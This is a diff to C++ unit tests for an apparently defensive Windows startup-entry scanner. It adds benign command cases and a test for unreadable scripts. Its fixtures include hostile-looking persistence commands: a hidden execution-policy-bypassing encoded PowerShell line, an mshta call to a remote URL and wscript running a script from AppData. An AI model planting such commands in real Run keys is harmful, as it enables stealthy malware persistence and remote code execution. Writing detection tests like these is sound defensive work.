@@ -40,6 +40,10 @@ INSTANTIATE_TEST_SUITE_P(
         CommandCase{"WscriptScriptInUsers", LR"(wscript.exe "C:\Users\ana\AppData\Roaming\s.vbs")", true},
         CommandCase{"ScriptFileInTemp", LR"("C:\Windows\Temp\a.bat")", true},
         CommandCase{"Rundll32SystemDll", LR"(rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL)", false},
+        CommandCase{"ExplorerAlone", L"explorer.exe", false},
+        CommandCase{"ConhostRunsCleanup", LR"(C:\Windows\System32\conhost.exe --headless C:\Windows\System32\cleanmgr.exe /autoclean)", false},
+        CommandCase{"Regsvr32LocalLibrary", LR"(regsvr32 /s C:\Windows\System32\vbscript.dll)", false},
+        CommandCase{"MsiexecLocalPackage", LR"(msiexec /i C:\instaladores\a.msi /q)", false},
         CommandCase{"OrdinaryProgram", LR"("C:\Program Files\Vendor\Updater.exe" /silent https://vendor.example)", false},
         CommandCase{"Empty", L"", false}),
     [](const testing::TestParamInfo<CommandCase>& info) { return info.param.name; });
@@ -82,12 +86,22 @@ TEST(StartupEntries, CheckRepairCheckAndUndoPutTheValuesBack) {
             .ok());
 }
 
-TEST(StartupEntries, AreReportOnlyOnAManagedMachine) {
+// What a machine whose Run key holds the command finds there.
+std::vector<RemovableValue> foundFor(std::wstring_view command, bool managedMachine) {
     fake::FakePlatform platform;
-    platform.RegWrite(std::wstring(kMachineRun) + L"x", L"mshta http://a.example",
-                      RegistryType::String);
+    platform.RegWrite(std::wstring(kMachineRun) + L"x", command, RegistryType::String);
     FailureLog failures(platform);
-    const auto found = findStartupEntries(platform, {}, true, failures);
+    return findStartupEntries(platform, {}, managedMachine, failures);
+}
+
+TEST(StartupEntries, AScriptThatCannotBeReadIsReportOnly) {
+    const auto found = foundFor(L"powershell -w hidden -ep bypass -enc %", false);
+    ASSERT_EQ(found.size(), 1u);
+    EXPECT_FALSE(found[0].finding.repairable);
+}
+
+TEST(StartupEntries, AreReportOnlyOnAManagedMachine) {
+    const auto found = foundFor(L"mshta http://a.example", true);
     ASSERT_EQ(found.size(), 1u);
     EXPECT_FALSE(found[0].finding.repairable);
 }
